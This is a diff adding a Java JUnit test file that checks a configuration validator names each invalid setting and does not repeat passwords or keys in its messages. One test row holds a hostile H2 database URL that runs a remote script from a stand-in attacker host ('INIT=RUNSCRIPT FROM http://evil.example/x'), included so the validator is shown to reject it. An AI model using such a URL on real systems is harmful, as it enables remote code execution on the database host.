@@ -1,0 +1,124 @@
+package io.workshopstream.config;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+/** A setting that cannot work is named, with what was there and what must be; all at once. */
+class SettingsTest {
+
+  private static List<String> told(Map<String, String> changes) {
+    return new Settings(new GivenConfig(changes))
+        .problems().stream().map(SettingProblem::sentence).toList();
+  }
+
+  @Test
+  void the_defaults_are_right() {
+    assertThat(told(Map.of())).isEmpty();
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      emptyValue = "",
+      textBlock =
+          """
+          run.parallel                    | abc            | "abc"; it must be a whole number from 1 to 16
+          run.parallel                    | 17             | "17"; it must be a whole number from 1 to 16
+          run.parallel                    | ''             | not set; it must be a whole number from 1 to 16
+          run.parallel                    | 99999999999999999999 | whole number
+          run.timeout            | 30m            | "30m"; it must be an ISO 8601 duration, such as PT30S or PT5M
+          run.timeout            | -PT1M          | ISO 8601 duration
+          run.retention-time                    | P99999999D     | ISO 8601 duration
+          stream.open-limit               | -1             | "-1"; it must be a whole number from 1 to 1000000
+          stream.abandoned-run            | stop           | "stop"; it must be one of continue, cancel
+          stream.abandoned-run-grace          | soon           | ISO 8601 duration
+          crawl.attempts                  | 0              | "0"; it must be a whole number from 1 to 100
+          crawl.browser.url               | localhost:9515 | "localhost:9515"; it must be an address that begins with http://
+          access.everyone                 | ja             | "ja"; it must be true or false
+          access.origins                  | admin.example.org | "admin.example.org"; it must be web origins with their scheme
+          access.origins                  | https://a.example,https://b.example/path | "https://b.example/path"; it must be web origins
+          normalisation.min-confidence            | 2              | "2"; it must be a number from 0.0 to 1.0
+          normalisation.min-confidence            | NaN            | a number from 0.0 to 1.0
+          refresh.at-first-start          | maybe          | true or false
+          database.url                    | jdbc:mysql://host/db?password=secret | "jdbc:mysql:…"; it must be an address that begins with jdbc:h2: or jdbc:postgresql:
+          database.url                    | jdbc:h2:file:./data/x;INIT=RUNSCRIPT FROM 'http://evil.example/x' | an address without INIT and AUTO_SERVER
+          database.url                    | jdbc:h2:./data/x;DB_CLOSE_ON_EXIT=FALSE;auto_server=true | an address without INIT and AUTO_SERVER
+          database.url                    | jdbc:h2:mem:x; Auto_Server_Port = 9090 | an address without INIT and AUTO_SERVER
+          server.port                     | 70000          | "70000"; it must be a whole number from 1 to 65535
+          studio.ids                      | ''             | not set; it must be the ids of one studio or more
+          studio.ids                      | Vins Dance     | a list of ids
+          studio.ids                      | vins.dance.co,vins.dance.co | no id twice
+          studio.vins.dance.co.start      | www.vins       | "www.vins"; it must be an address that begins with http://
+          studio.vins.dance.co.prefix     | events         | "events"; it must be an address
+          studio.vins.dance.co.zone       | Asia/Bombay2   | "Asia/Bombay2"; it must be the name of a time zone, such as Asia/Kolkata
+          studio.vins.dance.co.rendering  | maybe          | "maybe"; it must be one of auto, never, always
+          studio.vins.dance.co.enabled    | ja             | "ja"; it must be true or false
+          studio.vins.dance.co.depth      | deep           | "deep"; it must be a whole number from 0 to 100
+          studio.vins.dance.co.name       | ''             | not set; it must be given
+          """)
+  void a_value_that_cannot_work_is_named_with_what_it_must_be(
+      String key, String value, String sentence) {
+    assertThat(told(Map.of(key, value)))
+        .singleElement()
+        .asString()
+        .startsWith(key + " ")
+        .contains(sentence);
+  }
+
+  @Test
+  void all_wrong_values_are_told_at_once() {
+    List<String> keys =
+        new Settings(
+                new GivenConfig(
+                    Map.of(
+                        "run.parallel", "abc",
+                        "crawl.attempts", "0",
+                        "studio.vins.dance.co.zone", "Asia/Bombay2",
+                        "access.everyone", "ja")))
+            .problems().stream().map(SettingProblem::key).toList();
+
+    assertThat(keys)
+        .containsExactlyInAnyOrder(
+            "run.parallel", "crawl.attempts", "studio.vins.dance.co.zone", "access.everyone");
+  }
+
+  @Test
+  void a_studio_without_settings_and_a_model_without_a_name_are_told() {
+    assertThat(told(Map.of("studio.ids", "new.one", "model.url", "http://localhost:11434/v1")))
+        .extracting(sentence -> sentence.substring(0, sentence.indexOf(" is")))
+        .contains("studio.new.one.name", "studio.new.one.with-key.start", "model.name");
+  }
+
+  @Test
+  void no_key_and_no_password_is_repeated() {
+    String sentences =
+        told(Map.of(
+                "studio.vins.dance.co.key", "http sesame",
+                "studio.vins.dance.co.start", "ftp://user:sesame@host/",
+                "model.url", "ftp://host/?key=sesame",
+                "crawl.browser.url", "x://user:sesame@grid",
+                "database.url", "sesame"))
+            .toString();
+
+    assertThat(sentences)
+        .contains("studio.vins.dance.co", "model.url", "crawl.browser.url", "database.url")
+        .doesNotContain("sesame");
+  }
+
+  @Test
+  void each_setting_of_our_file_is_looked_at() {
+    GivenConfig config = new GivenConfig(Map.of());
+    new Settings(config).problems();
+
+    Set<String> keys = KnownSettings.with(List.of());
+    assertThat(keys.stream().filter(key -> !key.startsWith("studio.")).collect(Collectors.toSet()))
+        .isSubsetOf(config.read);
+  }
+}
